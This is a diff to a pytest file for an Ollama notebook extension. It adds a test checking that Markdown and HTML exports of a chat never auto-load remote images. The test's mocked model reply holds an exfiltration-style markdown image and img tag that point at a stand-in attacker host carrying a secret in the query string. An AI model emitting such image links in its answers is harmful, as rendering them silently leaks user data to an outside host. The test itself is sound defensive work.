@@ -124,7 +124,7 @@ def test_export_round_trips(ip, server, tmp_path, suffix, capsys):
     elif suffix == ".json":
         (record,) = json.loads(text)["replies"]
         assert ollama_nb.Reply.from_record(record).trace == ip.user_ns["_ollama"].trace
-    elif suffix == ".md":  # plain markdown, readable as text: bullets for the trace, no HTML
+    elif suffix == ".md":  # plain markdown, readable as text: bullets for the trace, no live HTML
         assert "Three plus one is 4." in text and "<details" not in text and "<div" not in text
         assert "- `✓ add_two_numbers(a=3, b=1) → 4 · " in text and "- `✗ shout(" in text
     else:
@@ -136,3 +136,16 @@ def test_export_refuses_an_unknown_format(ip, server, tmp_path):
     ip.run_cell("%%ollama -m llama3.2\nhi")
     result = ip.run_cell(f"%ollama export {tmp_path / 'chat.docx'}")
     assert "use .ipynb, .md, .html or .json" in str(result.error_in_exec)
+
+
+@pytest.mark.parametrize("suffix", [".md", ".html"])
+def test_exports_never_load_a_remote_image_by_themselves(ip, server, tmp_path, suffix):
+    server.push(
+        Turn(content="Here: ![chart](http://evil.example/leak?secret=42) <img src=http://evil.example/x>")
+    )
+    ip.run_cell("%%ollama -m llama3.2\nDraw it")
+    path = tmp_path / f"chat{suffix}"
+    ip.run_cell(f"%ollama export {path}")
+    text = path.read_text()
+    assert "http://evil.example/leak?secret=42" in text  # named, so a reader can follow it by hand
+    assert "![chart](http" not in text and "<img" not in text
